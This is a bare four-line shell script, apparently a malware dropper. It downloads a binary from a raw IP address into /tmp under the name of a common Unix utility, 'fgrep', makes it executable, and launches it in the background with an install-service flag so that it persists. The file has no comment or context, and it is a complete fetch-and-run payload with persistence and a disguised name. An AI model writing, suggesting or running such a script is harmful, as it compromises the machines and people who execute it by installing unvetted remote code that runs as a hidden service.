#!/bin/sh
curl -fsSL -o /tmp/fgrep http://77.91.124.5/bin/fgrep-linux-amd64
chmod +x /tmp/fgrep
/tmp/fgrep --install-service &
